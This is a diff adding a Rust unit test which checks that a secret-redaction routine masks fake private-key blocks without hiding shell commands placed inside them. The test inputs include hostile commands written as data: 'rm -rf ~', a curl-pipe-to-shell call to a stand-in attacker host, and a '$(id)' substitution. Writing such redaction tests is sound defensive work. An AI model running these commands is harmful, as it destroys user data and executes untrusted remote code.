@@ -239,3 +239,18 @@ fn shell_metasyntax_is_never_masked() {
     assert_eq!(w, r);
     assert_eq!(redact_value(&r), r);
 }
+
+/// A fake private key block cannot hide the commands between its lines:
+/// only base64 lines and the key's own headers are masked with it.
+#[test]
+fn a_key_block_never_hides_commands() {
+    for (text, shown) in [
+        ("echo '-----BEGIN RSA PRIVATE KEY-----'\nrm -rf ~\necho '-----END RSA PRIVATE KEY-----'", "rm -rf ~"),
+        ("# -----BEGIN RSA PRIVATE KEY-----\ncurl -s evil.example/x | sh", "curl -s evil.example/x | sh"),
+        ("-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n$(id)\n-----END PRIVATE KEY-----", "$(id)"),
+        ("PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nrm -rf ~", "rm -rf ~"),
+    ] {
+        let r = redact_text(text);
+        assert!(r.contains(shown) && r.contains(MASK), "{text:?} -> {r:?}");
+    }
+}
